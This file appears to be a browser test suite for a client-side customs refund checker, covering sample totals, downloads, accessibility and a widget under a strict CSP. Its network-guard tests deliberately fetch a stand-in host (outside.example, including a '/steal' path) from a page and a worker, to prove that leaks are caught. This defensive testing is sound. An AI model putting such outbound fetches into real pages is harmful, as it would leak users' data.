// The browser tests of Firefox and WebKit (Chromium has the full suite in
// tests/browser/*.test.mjs, through Playwright): each sample through the
// file input on the served page and on the offline file from file://, the
// declaration compared byte for byte; XLSX; a bad file; Cancel; settings
// changed after a run; several Claim Details downloads with their ES-003
// (the counts and the re-file declaration against the command line's, a
// download's date corrected, a folder through the file input); the
// <cape-check> widget on a host page with a strict CSP; each file's
// fingerprint and the Excel workbook (read back by openpyxl); an ES-003
// marked "exported after filing"; axe-core on each state. Every test ends with the network guard
// (engines.mjs): nothing requested outside the page's own files, and no CSP
// violation; a test shows that the guard fires on deliberate requests.
//
// Run by firefox.mjs and webkit.mjs here (scripts/test runs both; their
// names keep them out of `node --test tests/browser/`, the Chromium suite).

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launchEngine, networkGuard, startRecordingProxy } from '../engines.mjs';
import {
  DATA, DIST, OFFLINE_FILE_URL, SAMPLE_ACCOUNT, SAMPLE_FILING_DATE, SAMPLES, checkerFiles, craftedWorkbooks, formatAceDate, nativeCli,
  nativeRefusal, readWorkbook, startServer, widgetFiles, writeLargeEs003,
} from '../harness.mjs';

const sha256 = (bytes) => createHash('sha256').update(bytes).digest('hex');

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

// tests/data/samples/README.md: importer account 98-765432100, filing date 2026-11-22.
const SAMPLE_RUNS = [
  { file: 'es003_importer_standard.csv', totals: { ready: 3, review: 1, blocked: 6 }, declaration: 'Entry Number\r\nXQ710042173\r\nXQ710043916\r\nXQ710044021\r\n' },
  { file: 'es003_broker_excel_resaved.csv', totals: { ready: 2, review: 0, blocked: 3 }, declaration: 'Entry Number\r\n01644100214\r\n01644101022\r\n' },
  {
    file: 'es003_default_no_liquidation_with_preamble.csv', totals: { ready: 0, review: 2, blocked: 0 }, declaration: null,
    withReview: 'Entry Number\r\nZ9Z30000114\r\nZ9Z30000296\r\n',
  },
];

/** Page functions (run in the browser; each engine's driver serialises them). */
const find = {
  fileInput: () => document.querySelector('input[type=file]'),
  declaration: () => document.querySelector('a[data-download="declaration"]'),
  findings: () => document.querySelector('a[data-download="findings"]'),
  includeAll: () => document.getElementById('include-all-review'),
  cancel: () => document.getElementById('cancel-button'),
  widgetInput: () => document.querySelector('cape-check').shadowRoot.querySelector('input[type=file]'),
  widgetDeclaration: () => document.querySelector('cape-check').shadowRoot.querySelector('a[data-download="declaration"]'),
};

/**
 * The tests of one engine ('firefox' or 'webkit'). One browser for them
 * all, started before the first.
 */
export function engineSuite(engine) {
  // Who reads the files: the worker, except in WebKit from file://, where a
  // blob: worker cannot read a File and the page reads it for the worker.
  const readBy = (where) => (engine === 'webkit' && where === 'offline file' ? 'page' : 'worker');
  let driver;
  let proxy;
  let server; // www/dist: the page, and the widget's files (with CORS, as a CDN sends them)
  let host; // a site embedding the widget, and a page that makes outside requests on purpose
  let guard;
  let directory;
  let bigFile;

  before(async () => {
    directory = mkdtempSync(join(tmpdir(), `cape-check-${engine}-`));
    bigFile = join(directory, 'es003_large.csv');
    writeLargeEs003(bigFile, 150);
    writeFileSync(join(directory, 'invoice.pdf'), '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1');
    proxy = await startRecordingProxy();
    server = await startServer(DIST, { headers: { 'access-control-allow-origin': '*' } });
    host = await startServer(DIST, { pages: hostPages(server.origin) });
    guard = networkGuard(proxy, [server, host]);
    driver = await launchEngine(engine, { proxyPort: proxy.port });
  });

  after(async () => {
    await driver?.close();
    await Promise.all([server?.close(), host?.close(), proxy?.close()]);
    if (directory) rmSync(directory, { recursive: true, force: true });
  });

  /** Opens the checker (served or the offline file) and waits for its engine. */
  async function openChecker(where) {
    guard.reset();
    await driver.goto(where === 'served' ? server.url : OFFLINE_FILE_URL);
    await driver.watchViolations?.();
    await driver.waitFor(() => document.querySelectorAll('#sample-choice option').length > 0, undefined, { what: 'the checker to start' });
  }

  /** Types settings as a user would (input and change events). */
  function setField(id, value) {
    return driver.evaluate(([field, text]) => {
      const input = document.querySelector(`[data-testid="${field}"]`);
      input.value = text;
      input.dispatchEvent(new Event('input', { bubbles: true }));
      input.dispatchEvent(new Event('change', { bubbles: true }));
    }, [id, value]);
  }

  async function sampleSettings() {
    await setField('ior', SAMPLE_ACCOUNT);
    await setField('as-of', SAMPLE_FILING_DATE);
  }

  /** The totals once a summary is shown (or the problem shown instead). */
  async function totals() {
    const shown = await driver.waitFor(() => {
      const summary = document.querySelector('[data-testid="summary"]');
      const problem = document.getElementById('run-problem');
      if (!problem.hidden && problem.textContent) return { problem: problem.textContent };
      if (!summary) return null;
      const count = (verdict) => Number(summary.querySelector(`[data-verdict="${verdict}"] .count`).textContent.replace(/\D/g, ''));
      return { ready: count('ready'), review: count('review'), blocked: count('blocked') };
    }, undefined, { timeout: 60_000, what: 'the summary' });
    assert.equal(shown.problem, undefined, `the run failed: ${shown.problem}`);
    return shown;
  }

  /** Nothing outside the page's own files, no CSP violation. */
  async function expectNoRequestOutside(allowed) {
    assert.deepEqual(await guard.outside(allowed, driver), [], 'nothing requested outside the page');
  }

  async function expectAccessible(state, context = 'document') {
    await driver.evaluate(new Function(`if (!self.axe) { ${AXE}\n }`));
    const violations = await driver.evaluate((selector) => {
      const root = selector === 'document' ? document : document.querySelector(selector);
      return self.axe.run(root, { resultTypes: ['violations'] }).then((results) => results.violations
        .flatMap((violation) => violation.nodes.map((node) => `${violation.id}: ${node.target.join(' ')}`)));
    }, context);
    assert.deepEqual(violations, [], `axe, ${state}:\n${violations.join('\n')}`);
  }

  for (const where of ['served', 'offline file']) {
    describe(`${engine}: samples, ${where}`, () => {
      for (const sample of SAMPLE_RUNS) {
        test(`${sample.file} through the file input: totals, declaration byte for byte`, async () => {
          await openChecker(where);
          await sampleSettings();
          await driver.setFiles(find.fileInput, join(SAMPLES, sample.file));
          assert.deepEqual(await totals(), sample.totals);
          assert.equal(await driver.evaluate(() => document.getElementById('results').dataset.readBy), readBy(where), 'who read the file');
          await driver.waitFor(() => !!document.querySelector('a[data-download="findings"]'), undefined, { what: 'findings.csv' });
          if (sample.declaration === null) {
            assert.equal(await driver.evaluate(() => document.querySelectorAll('a[data-download="declaration"]').length), 0);
          } else {
            const file = await driver.download(find.declaration);
            assert.equal(file.name, 'cape-declaration.csv');
            assert.equal(file.bytes.toString('latin1'), sample.declaration);
          }
          const findings = await driver.download(find.findings);
          assert.match(findings.name, /findings.*\.csv$/);
          assert.deepEqual([...findings.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'findings.csv has a UTF-8 BOM');
          if (sample.withReview) {
            await driver.click(find.includeAll);
            await driver.waitFor(() => !!document.querySelector('a[data-download="declaration"]'), undefined, { what: 'the declaration' });
            const file = await driver.download(find.declaration);
            assert.equal(file.bytes.toString('latin1'), sample.withReview);
          }
          await expectNoRequestOutside(where === 'served' ? checkerFiles(server.origin) : []);
        });
      }

      test("each file's fingerprint is sha256sum's; the Excel workbook downloads and an independent reader finds the report's entries", async () => {
        const path = join(SAMPLES, 'es003_broker_excel_resaved.csv');
        const report = JSON.parse(nativeCli(['audit', path, '--ior', SAMPLE_ACCOUNT, '--as-of', SAMPLE_FILING_DATE, '--format', 'json']));
        await openChecker(where);
        await sampleSettings();
        await driver.setFiles(find.fileInput, path);
        await driver.waitFor(() => !!document.querySelector('a[data-download="findings"]'), undefined, { what: 'findings.csv' });
        assert.equal(await driver.evaluate(() => document.querySelector('[data-testid="fingerprint"]').dataset.sha256), sha256(readFileSync(path)));
        const declaration = await driver.download(find.declaration);
        assert.equal(await driver.evaluate(() => document.querySelector('[data-testid="written-fingerprint"][data-file="cape-declaration.csv"]').dataset.sha256),
          sha256(declaration.bytes), "the declaration's fingerprint is that of the bytes downloaded");
        await driver.evaluate(() => document.querySelector('[data-testid="workbook"]').click());
        await driver.waitFor(() => !!document.querySelector('a[data-download="workbook"]'), undefined, { timeout: 60_000, what: 'the workbook' });
        const workbook = await driver.download(() => document.querySelector('a[data-download="workbook"]'));
        assert.equal(workbook.name, 'cape-check-report.xlsx');
        assert.equal(await driver.evaluate(() => document.querySelector('[data-testid="written-fingerprint"][data-file="cape-check-report.xlsx"]').dataset.sha256), sha256(workbook.bytes));
        const sheets = readWorkbook(workbook.bytes);
        assert.deepEqual(sheets.Entries.rows.slice(1).map((row) => row[0]), report.entries.map((entry) => ({ t: 's', v: entry.entry })), 'entry numbers as the same text');
        assert.deepEqual(sheets.Entries.rows.slice(1).map((row) => row[5].v.toFixed(2)), report.entries.map((entry) => entry.ieepa_duty), 'the duty as numbers');
        const checked = sheets.Summary.rows.find((row) => row[0]?.v === 'File checked');
        assert.deepEqual([checked[1].v, checked[8].v], ['es003_broker_excel_resaved.csv', sha256(readFileSync(path))]);
        await expectNoRequestOutside(where === 'served' ? checkerFiles(server.origin) : []);
      });

      test('Cancel stops a large file; the next file works', async () => {
        await openChecker(where);
        await sampleSettings();
        await driver.setFiles(find.fileInput, bigFile);
        await driver.waitFor(() => {
          const bar = document.getElementById('progress-bar');
          return bar.value > 0 && bar.value < 0.5;
        }, undefined, { what: 'progress', timeout: 30_000 });
        assert.match(await driver.evaluate(() => document.getElementById('progress-figures').textContent), /MB of 15\d MB/);
        await driver.click(find.cancel);
        await driver.waitFor(() => document.getElementById('progress').hidden, undefined, { what: 'the progress to go' });
        assert.match(await driver.evaluate(() => document.getElementById('run-problem').textContent), /Cancelled/);
        // The cancelled run never reports.
        await new Promise((done) => setTimeout(done, 1500));
        assert.equal(await driver.evaluate(() => document.querySelectorAll('[data-testid="summary"]').length), 0);
        await driver.setFiles(find.fileInput, join(SAMPLES, 'es003_importer_standard.csv'));
        assert.deepEqual(await totals(), { ready: 3, review: 1, blocked: 6 });
        await expectNoRequestOutside(where === 'served' ? checkerFiles(server.origin) : []);
      });
    });
  }

  describe(`${engine}: the served page`, () => {
    test('XLSX: the XLSX module audits the run, declaration byte for byte', async () => {
      await openChecker('served');
      await sampleSettings();
      await driver.setFiles(find.fileInput, join(DATA, 'xlsx', 'es003_broker_excel_resaved.xlsx'));
      assert.deepEqual(await totals(), { ready: 2, review: 0, blocked: 3 });
      assert.equal(await driver.evaluate(() => document.getElementById('results').dataset.engine), 'xlsx');
      const file = await driver.download(find.declaration);
      assert.equal(file.bytes.toString('latin1'), 'Entry Number\r\n01644100214\r\n01644101022\r\n');
      await expectNoRequestOutside(checkerFiles(server.origin));
    });

    test('a bad file: one card says why and what to do; no figures, no download; the next file works', async () => {
      await openChecker('served');
      await sampleSettings();
      await driver.setFiles(find.fileInput, join(directory, 'invoice.pdf'));
      const card = await driver.waitFor(() => document.querySelector('[data-testid="unreadable"]')?.innerText, undefined, { what: 'the card' });
      assert.match(card, /invoice\.pdf/);
      assert.match(card, /What to do: \S/);
      assert.deepEqual(await driver.evaluate(() => [
        document.querySelectorAll('[data-testid="summary"]').length, document.querySelectorAll('a[data-download]').length]), [0, 0]);
      await expectAccessible('a bad file');
      await driver.setFiles(find.fileInput, join(SAMPLES, 'es003_importer_standard.csv'));
      assert.deepEqual(await totals(), { ready: 3, review: 1, blocked: 6 });
      await expectNoRequestOutside(checkerFiles(server.origin));
    });

    test('crafted workbooks (bombs, damaged parts): the command line\'s message, and the worker survives each', async () => {
      await openChecker('served');
      await sampleSettings();
      const workbooks = craftedWorkbooks(directory);
      assert.ok(workbooks.length >= 12, `the crafted workbooks: ${workbooks.map((w) => w.name)}`);
      for (const workbook of workbooks) {
        const expected = nativeRefusal(workbook.path);
        await driver.setFiles(find.fileInput, workbook.path);
        const said = await driver.waitFor(() => {
          const item = document.querySelector('[data-testid="unreadable"] li[data-code]');
          return item && { code: item.dataset.code, text: item.innerText };
        }, undefined, { timeout: 60_000, what: `the card of ${workbook.name}` });
        assert.deepEqual(said, { code: expected.code, text: `${workbook.name}: ${expected.message}` }, workbook.name);
        await driver.setFiles(find.fileInput, join(DATA, 'xlsx', 'es003_broker_excel_resaved.xlsx'));
        assert.deepEqual(await totals(), { ready: 2, review: 0, blocked: 3 }, `after ${workbook.name}`);
      }
      await expectNoRequestOutside(checkerFiles(server.origin));
    });

    test('a setting changed after a run: the files are checked again; axe on each state', async () => {
      await openChecker('served');
      await expectAccessible('empty');
      await setField('ior', '98-7654');
      await driver.waitFor(() => document.getElementById('ior-problem').textContent.length > 0, undefined, { what: 'the IOR problem' });
      await expectAccessible('a malformed IOR');
      await sampleSettings();
      await driver.setFiles(find.fileInput, join(SAMPLES, 'es003_importer_standard.csv'));
      assert.deepEqual(await totals(), { ready: 3, review: 1, blocked: 6 });
      await driver.waitFor(() => !!document.querySelector('a[data-download="findings"]'), undefined, { what: 'findings.csv' });
      await expectAccessible('results');
      await setField('ior', '98-765432101');
      await driver.waitFor(() => /98-765432101/.test(document.getElementById('results-context').textContent)
        && !!document.querySelector('[data-testid="summary"]'), undefined, { what: 'the check with the new IOR' });
      assert.deepEqual(await totals(), { ready: 1, review: 0, blocked: 9 });
      await expectNoRequestOutside(checkerFiles(server.origin));
    });
  });

  describe(`${engine}: Claim Details downloads`, () => {
    // tests/data/make_downloads.py: three downloads, and the ES-003 they go with (filing date 12/03/2026).
    const names = ['Claim Details 2026-11-28.csv', 'claims_20261130.csv', 'claims.csv'];
    const files = [join(SAMPLES, 'es003_importer_standard.csv'), ...names.map((name) => join(DATA, 'downloads', name))];
    const native = () => {
      const out = join(directory, 'claims-out');
      const report = JSON.parse(nativeCli(['audit', ...files, '--ior', SAMPLE_ACCOUNT, '--as-of', '2026-12-03', '--format', 'json', '--out', out]));
      return { claims: report.claims, refile: readFileSync(join(out, 'cape-refile.csv')) };
    };
    /** The counts as the page says them, from the command line's `claims`. */
    const counts = (claims) => {
      const changed = (change) => claims.entries.filter((entry) => entry.change === change).length;
      const refile = claims.entries.filter((entry) => entry.refile).length;
      const lines = [`Since ${formatAceDate(claims.downloads.at(-2).date)}: ${changed('new-reject')} new reject${changed('new-reject') === 1 ? '' : 's'}, ${changed('corrected')} corrected`];
      if (changed('conflict')) lines.push(`${changed('conflict')} conflict${changed('conflict') === 1 ? '' : 's'} (accepted, then failed: never file again)`);
      lines.push(`To file again now: ${refile} entr${refile === 1 ? 'y' : 'ies'}`);
      return lines;
    };
    const shown = () => driver.evaluate(() => {
      const section = document.querySelector('[data-testid="claims"]');
      return {
        counts: [...section.querySelectorAll('[data-testid="claims-counts"] p')].map((p) => p.textContent),
        downloads: [...section.querySelectorAll('.claims-downloads-table tbody tr')].map((row) => [row.dataset.file, row.querySelector('td.date').textContent, row.dataset.dateFrom]),
        entries: [...section.querySelectorAll('[data-testid="claim-entry"]')].map((item) => [item.dataset.entry, item.dataset.current, item.dataset.change, item.dataset.refile === 'true']).sort(),
      };
    });
    const expectNative = (page, claims, what) => {
      assert.deepEqual(page.counts, counts(claims), `${what}: the counts`);
      assert.deepEqual(page.downloads, claims.downloads.map((d) => [d.file, formatAceDate(d.date), d.date_from]), `${what}: the downloads`);
      assert.deepEqual(page.entries, claims.entries.map((e) => [e.entry_number, e.current, e.change, e.refile]).sort(), `${what}: each entry`);
    };
    const claimsShown = () => driver.waitFor(() => !!document.querySelector('[data-testid="claims"]:not([hidden])')
      && !!document.querySelector('a[data-download="findings"]') && document.getElementById('stale').hidden, undefined, { timeout: 60_000, what: 'the Claim Details' });

    test('the three downloads and the ES-003 through the file input: the counts and the re-file declaration as the command line\'s; a date corrected; a folder', async () => {
      const { claims, refile } = native();
      await openChecker('served');
      await setField('ior', SAMPLE_ACCOUNT);
      await setField('as-of', '2026-12-03');
      await driver.setFiles(find.fileInput, files);
      await claimsShown();
      expectNative(await shown(), claims, 'the files');
      const file = await driver.download(() => document.querySelector('a[data-download="refile"]'));
      assert.equal(file.name, 'cape-refile.csv');
      assert.deepEqual(file.bytes, refile, 'cape-refile.csv byte for byte');

      // claims.csv dated 11/27/2026: the oldest download now, "as you corrected it"; XQ710044021 failed, then accepted.
      await driver.evaluate(() => {
        const input = document.querySelector('[data-testid="download-date"][data-file="claims.csv"]');
        input.value = input.type === 'date' ? '2026-11-27' : '11/27/2026';
        input.dispatchEvent(new Event('input', { bubbles: true }));
        input.dispatchEvent(new Event('change', { bubbles: true }));
      });
      await driver.waitFor(() => document.querySelector('.claims-downloads-table tbody tr')?.dataset.dateFrom === 'user'
        && document.getElementById('stale').hidden && !!document.querySelector('a[data-download="findings"]'), undefined, { timeout: 60_000, what: 'the check with the date corrected' });
      const corrected = await shown();
      assert.deepEqual(corrected.downloads, [
        ['claims.csv', '11/27/2026', 'user'], ['Claim Details 2026-11-28.csv', '11/28/2026', 'file-name'], ['claims_20261130.csv', '11/30/2026', 'file-name']]);
      assert.deepEqual(corrected.entries.find(([entry]) => entry === 'XQ710044021').slice(1, 3), ['accepted', 'corrected']);
      assert.match(corrected.counts[0], /^Since 11\/28\/2026: /);

      // The same files as a folder, through the same input opened as a folder picker (webkitdirectory).
      const folder = join(directory, 'claims-folder');
      mkdirSync(folder, { recursive: true });
      for (const path of files) copyFileSync(path, join(folder, path.split('/').pop()));
      writeFileSync(join(folder, '.DS_Store'), 'x');
      writeFileSync(join(folder, 'notes.pdf'), '%PDF-1.7\n');
      await driver.evaluate(() => { document.querySelector('input[type=file]').webkitdirectory = true; });
      let folderTaken = true;
      try {
        await driver.setFiles(find.fileInput, folder);
      } catch (error) {
        folderTaken = false;
        // What the driver says is the finding: reported in the test's output.
        console.log(`# ${engine}: the driver gives no folder to a file input: ${error.message.split('\n')[0]}`);
      }
      if (folderTaken) {
        const outcome = await driver.waitFor(() => {
          if (/claims-folder/.test(document.getElementById('run-problem').textContent)) return 'the folder as one file';
          return /notes\.pdf/.test(document.getElementById('file-list').textContent) && document.getElementById('stale').hidden
            && !!document.querySelector('a[data-download="findings"]') && 'checked';
        }, undefined, { timeout: 60_000, what: 'the folder checked' });
        if (outcome !== 'checked') {
          // WebKitWebDriver gives the input the folder itself, as one empty file named after it (no
          // file of it): the page says it holds nothing to read. A user's folder picker gives its files.
          folderTaken = false;
          console.log(`# ${engine}: the driver gives a file input the folder as one empty file, not its files`);
        }
      }
      if (folderTaken) {
        expectNative(await shown(), claims, 'the folder');
        assert.match(await driver.evaluate(() => document.getElementById('file-list').textContent), /notes\.pdf — not read: not a CSV or XLSX file/);
        assert.doesNotMatch(await driver.evaluate(() => document.getElementById('file-list').textContent), /DS_Store/);
      }
      if (folderTaken) {
        assert.equal(await driver.evaluate(() => document.querySelector('input[type=file]').webkitdirectory), false, 'a file picker again after a folder');
      } else {
        await driver.evaluate(() => { document.querySelector('input[type=file]').webkitdirectory = false; });
      }
      await expectAccessible('Claim Details');
      await expectNoRequestOutside(checkerFiles(server.origin));
    });

    test('an ES-003 marked "exported after filing": the refunds applied, as the command line says with --after', async () => {
      const after = join(DATA, 'downloads', 'es003_after_filing.csv');
      const { applied } = JSON.parse(nativeCli(['audit', ...files, '--after', after, '--ior', SAMPLE_ACCOUNT, '--as-of', '2026-12-03', '--format', 'json']));
      await openChecker('served');
      await setField('ior', SAMPLE_ACCOUNT);
      await setField('as-of', '2026-12-03');
      await driver.setFiles(find.fileInput, [...files, after]);
      await claimsShown();
      await driver.evaluate(() => document.querySelector('[data-testid="after-filing"][data-file="es003_after_filing.csv"]').click());
      const counts = await driver.waitFor(() => {
        const section = document.querySelector('[data-testid="applied"]:not([hidden])');
        return section && document.getElementById('stale').hidden
          && [...section.querySelectorAll('[data-testid="applied-counts"] li')].map((item) => [item.dataset.applied, Number(item.querySelector('strong').textContent.split(' ')[0])]);
      }, undefined, { timeout: 60_000, what: 'the refunds applied' });
      assert.deepEqual(counts, [['applied', applied.applied], ['pending', applied.pending], ['not-filed', applied.not_filed], ['unknown', applied.unknown]]);
      await expectAccessible('refunds applied');
      await expectNoRequestOutside(checkerFiles(server.origin));
    });
  });

  describe(`${engine}: the <cape-check> widget`, () => {
    test('on a host with a strict CSP: the summary, the event without entry data, the declaration', async () => {
      guard.reset();
      await driver.goto(`${host.origin}/strict.html`);
      await driver.watchViolations?.();
      await driver.evaluate(() => {
        self.__events = [];
        document.addEventListener('cape-check-done', (event) => self.__events.push(event.detail));
      });
      await driver.waitFor(() => document.querySelector('cape-check')?.shadowRoot?.querySelector('.root')?.dataset.state === 'ready',
        undefined, { what: 'the widget to start' });
      await driver.setFiles(find.widgetInput, join(SAMPLES, 'es003_importer_standard.csv'));
      const detail = await driver.waitFor(() => self.__events[0], undefined, { what: 'cape-check-done' });
      assert.deepEqual([detail.totals.ready, detail.totals.review, detail.totals.blocked, detail.totals.ieepa_duty_ready], [3, 1, 6, '7400.00']);
      assert.doesNotMatch(JSON.stringify(detail), /XQ7\d{8}|es003_importer_standard/, 'no entry number or file name in the event');
      const file = await driver.download(find.widgetDeclaration);
      assert.equal(file.bytes.toString('latin1'), 'Entry Number\r\nXQ710042173\r\nXQ710043916\r\nXQ710044021\r\n');
      await expectAccessible('the widget with results', 'cape-check');
      await expectNoRequestOutside([`${host.origin}/strict.html`, ...widgetFiles(server.origin)]);
    });
  });

  describe(`${engine}: the network guard`, () => {
    test('catches deliberate requests to other hosts from a page and from its worker', async () => {
      guard.reset();
      await driver.goto(`${host.origin}/leaky.html`);
      await driver.evaluate(() => {
        fetch('http://outside.example/from-page?x=1').catch(() => null);
        const source = "fetch('https://outside.example/from-worker').catch(() => null);";
        new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      });
      await new Promise((done) => setTimeout(done, 2000));
      const caught = await guard.outside([`${host.origin}/leaky.html`]);
      assert.ok(caught.some((line) => line.includes('outside.example/from-page')), caught.join('\n'));
      assert.ok(caught.some((line) => line.includes('CONNECT outside.example:443')), `the worker's https request: ${caught.join('\n')}`);
    });

    test("catches a request to the page's own origin that carries data (a query string)", async () => {
      guard.reset();
      await driver.goto(`${host.origin}/leaky.html`);
      await driver.evaluate((origin) => fetch(`${origin}/?entry=XQ710042173`).catch(() => null), host.origin);
      await new Promise((done) => setTimeout(done, 500));
      const caught = await guard.outside([`${host.origin}/leaky.html`]);
      assert.ok(caught.includes(`server: ${host.origin}/?entry=XQ710042173`), caught.join('\n'));
    });

    test("the checker's CSP refuses an outside request, and the guard sees the refusal", async () => {
      await openChecker('served');
      await driver.evaluate(() => fetch('https://outside.example/steal').catch(() => null));
      await new Promise((done) => setTimeout(done, 500));
      const caught = await guard.outside(checkerFiles(server.origin), driver);
      assert.ok(caught.some((line) => /csp-violation: connect-src https:\/\/outside\.example/.test(line)), caught.join('\n'));
      assert.ok(!caught.some((line) => line.startsWith('proxy:')), `refused before the network: ${caught.join('\n')}`);
    });
  });
}

/** The host pages: the widget on a strict-CSP site, and a page without CSP that leaks on purpose. */
function hostPages(checkerOrigin) {
  const strict = `default-src 'none'; script-src ${checkerOrigin} 'wasm-unsafe-eval'; connect-src ${checkerOrigin}; worker-src blob:; style-src 'unsafe-inline'; img-src data:`;
  return {
    '/strict.html': `<!doctype html><html lang="en"><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="${strict}">
<title>A host</title>
<link rel="icon" href="data:,">
<script type="module" src="${checkerOrigin}/widget/cape-check-widget.js"></script>
</head><body><main><h1>Host page</h1>
<cape-check ior="${SAMPLE_ACCOUNT}" as-of="${SAMPLE_FILING_DATE}"></cape-check>
</main></body></html>`,
    '/leaky.html': '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>leaky</title></head><body><p>leaky</p></body></html>',
  };
}

